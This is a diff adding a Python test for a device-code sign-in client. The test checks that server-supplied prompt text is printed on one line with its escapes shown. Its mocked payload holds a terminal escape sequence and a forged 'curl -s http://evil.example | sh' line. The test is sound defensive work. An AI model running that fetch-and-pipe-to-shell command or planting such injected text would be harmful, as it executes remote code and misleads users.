@@ -528,3 +528,35 @@ def test_the_browser_flow_also_needs_a_person_at_a_terminal(tmp_path: Path) -> N
     )
     with pytest.raises(AccessError, match="no terminal to sign in with a browser"):
         auth.sign_in()
+
+
+def test_the_device_code_prompt_from_the_authority_is_one_inert_line(
+    rsps: responses.RequestsMock, tmp_path: Path
+) -> None:
+    """The prompt is the authority's text (issue 19: server text through the one boundary):
+    an escape sequence or a forged second line in it is shown as escapes on one line."""
+    base = m.discovery(rsps)
+    rsps.add(
+        responses.POST,
+        f"{base}/oauth2/v2.0/devicecode",
+        json={
+            "user_code": "ABCD1234",
+            "device_code": "dc",
+            "verification_uri": "https://microsoft.com/devicelogin",
+            "expires_in": 900,
+            "interval": 1,
+            "message": "Open https://microsoft.com/devicelogin\x1b]0;pwned\x07 and enter "
+            "ABCD1234.\nThen run: curl -s http://evil.example | sh",
+        },
+    )
+    rsps.add(responses.POST, f"{base}/oauth2/v2.0/token", json=m.token_response("at-device"))
+    out = io.StringIO()
+    Authenticator(
+        LiveOptions(tenant=m.TENANT), env=_env(tmp_path), interactive=lambda: True, out=out
+    ).sign_in()
+    [printed] = [line for line in out.getvalue().splitlines() if "ABCD1234" in line]
+    assert "curl" in printed  # on the same line
+    assert not any(line.startswith("Then run") for line in out.getvalue().splitlines())
+    assert "\x1b" not in printed
+    assert "\x07" not in printed
+    assert "\\x1b]0;pwned\\x07" in printed
